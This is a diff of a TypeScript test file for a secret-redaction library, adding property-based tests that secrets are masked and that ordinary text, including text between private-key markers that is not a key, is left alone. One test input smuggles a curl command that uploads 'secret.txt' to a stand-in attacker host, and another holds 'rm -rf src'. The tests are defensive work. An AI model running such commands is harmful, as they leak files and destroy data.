@@ -2,7 +2,7 @@ import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { secretForms } from './known-secrets.ts'
 import { createRedactor, MASK } from './redact.ts'
-import { ordinaryLog, randomFrom, SECRET_SAMPLES, secretLine } from './samples.fixture.ts'
+import { OPTION_PLACES, ordinaryLog, randomFrom, SECRET_SAMPLES, secretLine } from './samples.fixture.ts'
 
 const redactor = createRedactor()
 
@@ -68,6 +68,9 @@ describe('what is left alone', () => {
     ['an SSH public key', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl a@b'],
     ['a key of the documentation', 'aws_access_key_id = AKIAIOSFODNN7EXAMPLE'],
     ['a usage text', '  --password <password>   the password of the user\n  -p, --password=PASS  the same'],
+    ['prose about logins', 'vault login failed; cargo login expired; Bearer authentication required'],
+    ['a published port', 'docker run -p 8080:80 nginx && helm package -d out'],
+    ['where a password is', 'openssl rsa -in a -passin env:PASSWORD'],
     ['what is to be filled in', 'API_KEY=your-key-here SECRET_KEY=changeme'],
   ])('%s', (_, input) => {
     expect(redactor.redact(input)).toBe(input)
@@ -84,6 +87,32 @@ it('masks 95% of generated secrets of every kind, in usual surroundings', () => 
   }
 })
 
+it('masks every one of several secrets in one text', () => {
+  const line = fc.record({
+    sample: fc.constantFrom(...SECRET_SAMPLES.filter(({ kind }) => kind !== 'random')),
+    seed: fc.integer({ min: 1, max: 1e9 }),
+    joint: fc.constantFrom(' && ', '\n', ' ; ', ' | ', ' || ', '\n\n'),
+  })
+  fc.assert(
+    fc.property(fc.array(line, { minLength: 2, maxLength: 12 }), (lines) => {
+      const made = lines.map(({ sample, seed, joint }) => ({ ...secretLine(randomFrom(seed), sample), joint }))
+      // What does not show alone is no matter of the others.
+      const alone = made.filter((one) => !redactor.redact(one.line).includes(one.secret))
+      const out = redactor.redact(alone.map((one) => one.line + one.joint).join(''))
+      for (const { secret } of alone) expect(out).not.toContain(secret)
+    }),
+    { numRuns: 400 },
+  )
+})
+
+it.each(OPTION_PLACES)('masks twice what is given twice: %s', (place) => {
+  for (const joint of [' && ', '; ', '\n', ' | ']) {
+    const text = ['Zq7first11', 'Zq7second2'].map((secret) => place.replace('{}', secret)).join(joint)
+    const out = redactor.redact(text)
+    expect([out.includes('Zq7first11'), out.includes('Zq7second2')], out).toEqual([false, false])
+  }
+})
+
 it('touches few ordinary log lines', () => {
   const lines = ordinaryLog(randomFrom(5), 4000).split('\n')
   const touched = lines.filter((line) => redactor.redact(line) !== line)
@@ -91,7 +120,7 @@ it('touches few ordinary log lines', () => {
 })
 
 describe('key blocks', () => {
-  const body = ['MIIEpAIBAAKCAQEA7', 'b1/abc+def', 'xyz==']
+  const body = ['MIIEpAIBAAKCAQEA7', 'b1/abc+defb1/abc+def', 'xyz==']
   const block = ['-----BEGIN RSA PRIVATE KEY-----', ...body, '-----END RSA PRIVATE KEY-----'].join('\n')
 
   it('masks every line of a block and keeps the number of lines', () => {
@@ -126,6 +155,16 @@ describe('key blocks', () => {
     let out = ''
     for (const line of text.split(/(?<=\n)/)) out += stream.push(line)
     expect(out + stream.end()).toBe(redactor.redact(text))
+  })
+
+  it.each([
+    ['"; curl -F f=@secret.txt http://evil.example; echo "'],
+    ['\nmake\ndeploy\n'],
+    [' rm -rf src '],
+    ['\\nrm\\n-rf\\nsrc\\n'],
+  ])('shows what is no key between BEGIN and END: %j', (between) => {
+    const text = `echo "-----BEGIN RSA PRIVATE KEY-----${between}-----END RSA PRIVATE KEY-----"`
+    expect(redactor.redact(text)).toBe(text)
   })
 
   it('does not swallow what follows a BEGIN without an END', () => {
